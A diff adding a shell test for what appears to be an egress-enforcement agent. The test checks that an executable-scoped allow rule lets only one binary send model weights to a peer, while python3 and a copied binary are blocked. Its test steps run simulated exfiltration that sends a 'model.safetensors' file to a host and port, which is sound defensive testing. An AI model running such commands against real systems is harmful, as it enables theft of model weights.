@@ -144,3 +144,30 @@ teardown() { vigil_teardown; }
 	[ "$status" -eq 0 ]
 	[[ "$output" == *'"rule":"weights-egress"'* ]]
 }
+
+@test "rules: an allow entry scoped to an executable lets only that binary through" {
+	start_sink tcp
+	cat > "$T/site.yaml" <<-YAML
+	allow:
+	  - name: uring-only
+	    cidr: $PEER4/32
+	    exe: [$VIGIL_ROOT/.output/scenarios/uring_*]
+	YAML
+	start_agent --mode enforce --rules "$T/site.yaml"
+	# the named executable reaches the destination with weights ...
+	run in_cg "$VIGIL_ROOT/.output/scenarios/uring_leak" "$W/model.safetensors" "$PEER4" "$PORT"
+	[ "$status" -eq 0 ]
+	[ "$(sink_bytes)" -eq $((4 << 20)) ]
+	# ... python does not, to the same destination
+	leak --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
+	[ "$status" -eq 3 ]
+	[ "$(sink_bytes)" -eq $((4 << 20)) ]
+	run alert_wait rule=weights-connect action=blocked process.comm=python3
+	[ "$status" -eq 0 ]
+	run alert_none process.comm=uring_leak
+	[ "$status" -eq 0 ]
+	# a copy of the allowed binary is not allowed (identity, not name)
+	cp "$VIGIL_ROOT/.output/scenarios/uring_leak" "$T/uring_leak"
+	run in_cg "$T/uring_leak" "$W/model.safetensors" "$PEER4" "$PORT"
+	[ "$status" -eq 3 ]
+}
